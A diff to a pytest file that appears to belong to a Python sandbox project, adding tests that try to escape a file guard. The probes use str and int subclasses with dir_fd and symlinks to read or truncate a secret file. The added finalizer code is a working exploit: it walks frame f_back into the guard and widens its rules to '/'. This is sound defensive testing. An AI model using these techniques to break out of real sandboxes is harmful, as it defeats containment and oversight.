@@ -1,8 +1,9 @@
 """Attack class 8: what reading the guard code suggests.
 
-Odd path objects, AF_UNIX socket paths, FIFOs, temporary files, the launcher's ``/proc``
-entries, implicit grants, and the program turning the guards off or slipping past them
-(patching, closures, ``__code__`` swaps, code that runs while the audit hook is busy).
+Odd path objects and arguments, AF_UNIX socket paths, FIFOs, temporary files, the
+launcher's ``/proc`` entries, implicit grants, and the program turning the guards off or
+slipping past them (patching, closures, ``__code__`` swaps, code that runs while the audit
+hook is busy or inside a guard).
 """
 
 from __future__ import annotations
@@ -11,7 +12,7 @@ import os
 import socket
 
 import pytest
-from escapelab import Lab, got
+from escapelab import Lab, got, tree
 
 # -- odd path objects ------------------------------------------------------------------
 
@@ -82,6 +83,62 @@ def test_cant_read_secret_with_odd_path_objects(lab: Lab, attack: str) -> None:
     assert marker() not in result.stdout, output
     assert lab.secret not in output
     assert "REFUSED RuleFileNotFoundError" in result.stdout, output
+
+
+# -- arguments that answer the guard differently than they answer C --------------------
+
+# A ``str`` subclass given with ``dir_fd`` skipped the wrapper's folding of ``dir_fd`` into
+# the path, so the guard judged the name against the working directory while the kernel
+# resolved it in the descriptor's directory; an ``int`` subclass as ``dir_fd`` was dropped
+# by the guard and used by the kernel. C reads the raw value of both: so does the guard now.
+
+PREAMBLE = """
+        class Lying(str):
+            pass
+        class Number(int):
+            pass
+        os.chdir(PROJECT)
+        folder = os.open(OUT, os.O_RDONLY | os.O_DIRECTORY)
+"""
+
+
+REFUSALS = ("RuleFileNotFoundError", "RulePermissionError")
+
+PROBES = {
+    "read_through_str_subclass_with_dir_fd": (
+        """
+        os.symlink(SECRET_FILE, OUT + '/x')
+        fd = os.open(Lying('x'), os.O_RDONLY, dir_fd=folder)
+        print('GOT', os.read(fd, 100))
+        """,
+        None,
+    ),
+    "truncate_outside_through_str_subclass_with_dir_fd": (
+        """
+        os.symlink(SECRET_FILE, OUT + '/out')
+        os.open(Lying('out'), os.O_WRONLY | os.O_TRUNC, dir_fd=folder)
+        print('GOT', 'truncated', os.path.getsize(SECRET_FILE))
+        """,
+        "GOT truncated 0",
+    ),
+    "stat_outside_through_int_subclass_dir_fd": (
+        """
+        os.symlink(SECRET_FILE, OUT + '/x')
+        print('GOT', 'size', os.stat('x', dir_fd=Number(folder)).st_size)
+        """,
+        "GOT size",
+    ),
+}
+
+
+@pytest.mark.parametrize("probe", sorted(PROBES))
+def test_cant_get_outside_with_lying_arguments(lab: Lab, probe: str) -> None:
+    lab.rules("expose-ro=.", "expose-rw=./out")
+    body, evidence = PROBES[probe]
+    code = lab.probe(PREAMBLE + body)
+    assert got(lab.control(code), evidence or lab.secret)
+    # The outside tree is what must not change: the probe's own link sits in out/.
+    lab.refused(code, REFUSALS, watch=lambda: tree(lab.outside))
 
 
 # -- AF_UNIX sockets, FIFOs, temporary files ------------------------------------------
@@ -367,5 +424,58 @@ def test_cant_read_secret_from_signal_handler_while_hook_busy(lab: Lab) -> None:
             open(SECRET_FILE)
         """
     )
+    assert lab.secret in lab.control(code).stdout
+    lab.refused(code, "RuleFileNotFoundError")
+
+
+# -- a finalizer run inside the file guard ---------------------------------------------
+
+# A finalizer of the program run by a collection inside the file guard walks ``f_back``
+# (not audited) into the guard's frame and widens the rules. ``docs/security.md`` lists
+# "``f_back`` and ``f_locals`` of frames" as open until the kernel layer: this is a
+# working, deterministic exploit through that route (no signal, no race), kept as a strict
+# ``xfail`` so the day it is closed the test says so.
+
+FINALIZER_TAKEOVER = """
+import gc
+found = []
+class Trap:
+    def __del__(self):
+        if found:
+            return
+        frame = sys._getframe(0)  # the program's own frame: allowed
+        while frame is not None:
+            owner = frame.f_locals.get('self')
+            if type(owner).__name__ == 'FileGuard':
+                found.append(owner)
+                return
+            frame = frame.f_back  # not audited: reaches the guard's frames
+        arm()
+def arm():
+    trap = Trap()
+    trap.me = trap  # a cycle: freed by the collector, wherever it runs
+arm()
+gc.set_threshold(1, 1, 1)
+for _ in range(200):
+    if found:
+        break
+    os.path.exists(DATA + '/config.txt')
+    os.listdir(DATA)
+gc.set_threshold(700, 10, 10)
+if found:
+    guard = found[0]
+    rule = next(iter(guard.judge._exposures.values()))
+    guard.judge._exposures['/'] = type(rule)('/', True, True, rule.origin)
+    guard._settled.clear()
+print('GOT', open(SECRET_FILE).read())
+"""
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="documented open route: f_back/f_locals of a frame whose caller is a guard",
+)
+def test_cant_widen_rules_from_finalizer_run_inside_file_guard(lab: Lab) -> None:
+    code = lab.probe(FINALIZER_TAKEOVER)
     assert lab.secret in lab.control(code).stdout
     lab.refused(code, "RuleFileNotFoundError")
